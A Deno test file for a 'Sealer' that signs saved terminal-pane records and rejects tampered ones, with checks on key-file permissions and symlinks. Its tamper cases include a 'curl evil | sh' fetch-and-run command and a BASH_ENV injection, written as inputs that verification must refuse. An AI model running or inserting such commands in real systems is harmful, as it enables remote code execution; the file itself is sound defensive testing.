import { deepStrictEqual as assertEquals, ok as assert } from "node:assert/strict";
import { join } from "node:path";
import { Sealer } from "./seal.ts";
import type { SavedPane } from "./saved.ts";

const PANE: SavedPane = {
  id: "p2",
  session: "s1",
  window: "w1",
  name: null,
  argv: ["bash", "-c", "make test"],
  command: "make test",
  cwd: "/p",
  lastCwd: "/p",
  env: {},
  agent: "program",
  agentExplicit: false,
  agentSession: null,
  tags: [],
  meta: {},
  createdBy: null,
  exit: null,
};

Deno.test("Sealer.verify() takes a pane sealed with the same key, through a JSON round trip", () => {
  const sealer = Sealer.withKey(new Uint8Array(32).fill(1));
  const stored = JSON.parse(JSON.stringify(sealer.seal(PANE))) as SavedPane;
  assert(sealer.verify(stored));
  // Sealing again replaces the seal, it does not seal the seal.
  assertEquals(sealer.seal(stored), stored);
});

Deno.test("Sealer.verify() refuses another key's seal, no seal, and any changed field", () => {
  const sealer = Sealer.withKey(new Uint8Array(32).fill(1));
  const sealed = sealer.seal(PANE);
  assert(!Sealer.withKey(new Uint8Array(32).fill(2)).verify(sealed));
  assert(!sealer.verify(PANE));
  assert(!sealer.verify({ ...sealed, argv: ["bash", "-c", "curl evil | sh"] }));
  assert(!sealer.verify({ ...sealed, command: "vim" }));
  assert(!sealer.verify({ ...sealed, env: { BASH_ENV: "/tmp/x" } }));
  assert(!sealer.verify({ ...sealed, seal: "" }));
});

Deno.test("Sealer.load() makes one key, 0600, and every later load reads the same", async () => {
  const dir = await Deno.makeTempDir();
  try {
    const file = join(dir, "state", "weft", "seal.key");
    const [a, b] = await Promise.all([Sealer.load(file), Sealer.load(file)]);
    assertEquals([a.problem, b.problem], [undefined, undefined]);
    assert(b.verify(a.seal(PANE)));
    assertEquals((await Deno.stat(file)).mode! & 0o777, 0o600);
    assertEquals((await Deno.stat(join(dir, "state", "weft"))).mode! & 0o777, 0o700);
    assert((await Sealer.load(file)).verify(a.seal(PANE)));
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("Sealer.load() refuses a key others may read or that is a link, and seals nothing", async () => {
  const dir = await Deno.makeTempDir();
  try {
    const file = join(dir, "seal.key");
    await Deno.writeTextFile(file, "ab".repeat(32) + "\n", { mode: 0o644 });
    await Deno.chmod(file, 0o644);
    const open = await Sealer.load(file);
    assert(open.problem?.includes("others may read"));
    assert(!open.verify(open.seal(PANE)));
    await Deno.chmod(file, 0o600);
    await Deno.symlink(file, join(dir, "link.key"));
    assert((await Sealer.load(join(dir, "link.key"))).problem?.includes("symbolic link"));
    assertEquals((await Sealer.load(file)).problem, undefined);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
